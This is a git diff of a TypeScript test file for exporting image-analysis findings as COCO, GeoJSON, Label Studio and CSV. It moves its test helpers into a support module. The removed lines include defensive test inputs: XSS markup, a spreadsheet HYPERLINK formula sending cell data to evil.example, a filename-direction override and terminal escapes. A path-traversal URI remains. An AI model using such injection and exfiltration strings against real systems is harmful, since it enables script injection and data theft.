@@ -3,18 +3,13 @@ import { Ajv, type ValidateFunction } from 'ajv';
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import { z } from 'zod';
-import type { ExportFormat } from '../../../pipeline/contract/export-format.ts';
-import { Box, type Finding, type FindingsDocument } from '../../../pipeline/contract/schemas.ts';
-import { NO_USAGE } from '../../../pipeline/contract/usage.ts';
-import { exportPieces } from '../../../pipeline/findings/exports/index.ts';
+import { Box, type FindingsDocument } from '../../../pipeline/contract/schemas.ts';
 import { COCO_SCHEMA } from '../../support/coco-schema.ts';
 import { cellsWithoutQuotes, csvRows } from '../../support/csv-rows.ts';
+import { boxes, documentOf, exported, findings, hostileWords, IMAGE } from '../../support/exported-findings.ts';
 import { LABEL_STUDIO_SCHEMA } from '../../support/label-studio-schema.ts';
-import { requestFor } from '../../support/pipeline-run.ts';
 import { finding } from '../../support/tool-calls.ts';
 
-const STARTED_AT = '2026-03-01T10:20:30.000Z';
-const IMAGE = { uri: 's3://plans/site%20plan.jpg', width: 4_000, height: 3_000, format: 'jpeg', version: '1' };
 const COLUMNS = 'id,label,score,severity,x,y,width,height,level,verified,text,description'.split(',');
 
 const Coco = z.object({
@@ -59,27 +54,6 @@ const Task = z.object({
   predictions: z.tuple([z.object({ score: z.number().optional(), result: z.array(Region) })]),
 });
 
-function documentOf(findings: Finding[], image = IMAGE): FindingsDocument {
-  const { ask, plan, models, execution_id } = requestFor('');
-  const tiles = { total: 1, done: 1, blank: 0, failed: [] };
-  return {
-    execution_id,
-    status: 'SUCCEEDED',
-    image,
-    request: { ask, plan },
-    models,
-    tiles,
-    usage: NO_USAGE,
-    summary: '',
-    notes: [],
-    findings,
-  };
-}
-
-function exported(format: ExportFormat, document: FindingsDocument, imageUrl: string | null = null): string {
-  return [...exportPieces(format, { document, startedAt: STARTED_AT, imageUrl })].join('');
-}
-
 const cocoOf = (document: FindingsDocument) => Coco.parse(JSON.parse(exported('coco', document)));
 const geoJsonOf = (document: FindingsDocument) => GeoJson.parse(JSON.parse(exported('geojson', document)));
 const taskOf = (document: FindingsDocument) => z.tuple([Task]).parse(JSON.parse(exported('label-studio', document)))[0];
@@ -92,37 +66,6 @@ const isLabelStudio = ajv.compile(LABEL_STUDIO_SCHEMA);
 function expectValid(validate: ValidateFunction, json: string): void {
   expect(validate(JSON.parse(json)) ? [] : validate.errors).toEqual([]);
 }
-
-/** From whole images to boxes without a size, in tenths of a pixel as the pipeline has them. */
-const boxes = fc
-  .tuple(...[IMAGE.width, IMAGE.height, IMAGE.width, IMAGE.height].map((max) => fc.integer({ min: 0, max: max * 10 })))
-  .map(([left = 0, top = 0, right = 0, bottom = 0]): Box => {
-    const [x, y] = [Math.min(left, right), Math.min(top, bottom)];
-    return [x / 10, y / 10, Math.abs(right - left) / 10, Math.abs(bottom - top) / 10];
-  });
-
-/** Any sequence of UTF-16 units, half characters among them, and what makes formulas, cells and rows. */
-const words = fc
-  .array(
-    fc.oneof(
-      fc.integer({ min: 0, max: 0xffff }).map((unit) => String.fromCharCode(unit)),
-      fc.constantFrom(...'=+-@;,"\t\r\n \'＝'),
-      fc.constant('=A1'),
-    ),
-  )
-  .map((parts) => parts.join(''));
-
-const findings = fc
-  .array(
-    fc.record({
-      ...{ label: words, description: words, text: fc.option(words), box: boxes },
-      score: fc.double({ min: 0, max: 1, noNaN: true }),
-      severity: fc.constantFrom('info' as const, 'critical' as const),
-      verified: fc.constantFrom(null, 'confirmed' as const, 'rejected' as const, 'corrected' as const),
-    }),
-    { maxLength: 20 },
-  )
-  .map((all) => all.map((fields, index) => finding(index, fields)));
 
 describe('every export', () => {
   test('has the findings that were not rejected, in their order, with their boxes', () => {
@@ -200,21 +143,7 @@ describe('every export', () => {
 });
 
 describe('words from an image', () => {
-  const hostile: [name: string, words: string][] = [
-    ['markup', '<img src=x onerror="alert(1)">'],
-    ['the end of a script', '</script><script>alert(1)</script>'],
-    ['a formula', '=HYPERLINK("https://evil.example/?"&A1,"click")'],
-    ['10,000 characters', 'wide '.repeat(2_000)],
-    ['10,000 line breaks', '\n'.repeat(10_000)],
-    ['letters from right to left', 'مخرج الطوارئ'],
-    ['an override of direction', 'invoice\u202Efdp.exe'],
-    ['control characters', 'a\u0000b\u001B[2Jc\u009B31md\u007F\b'],
-    ['half characters', 'a\uD800b\uDC00'],
-    ['commas, quotes and line breaks', 'a,"b"\r\nc,d\n"'],
-    ['emoji', '👩‍🚒 fire ⚠️'],
-  ];
-
-  test.each(hostile)('%s are the same words in JSON, and nothing steers whoever prints it', (_, said) => {
+  test.each(hostileWords)('%s are the same words in JSON, and nothing steers whoever prints it', (_, said) => {
     const document = documentOf([finding(1, { label: said, description: said, text: said }), finding(2)]);
     const words = said.toWellFormed();
     const coco = cocoOf(document);
@@ -231,7 +160,7 @@ describe('words from an image', () => {
     }
   });
 
-  test.each(hostile)('%s stay in their cell of the table', (_, said) => {
+  test.each(hostileWords)('%s stay in their cell of the table', (_, said) => {
     const document = documentOf([finding(1, { label: said, description: said, text: said }), finding(2)]);
     const [, row = [], next = []] = rowsOf(document);
     const [label = '', text, description] = [row[1], row[10], row[11]];
@@ -329,7 +258,7 @@ describe('COCO', () => {
     ['upload://abc123', 'abc123'],
     ['file:///C:/plans/..%2F..%2Fetc%2Fpasswd', 'passwd'],
     ['100%.jpg', '100%.jpg'],
-    ['', 'picture'],
+    ['', 'image'],
   ])('the image %j is the file %j', (uri, file) => {
     const [image] = cocoOf(documentOf([], { ...IMAGE, uri })).images;
     expect(image).toMatchObject({ id: 1, width: 4_000, height: 3_000, file_name: file, uri });
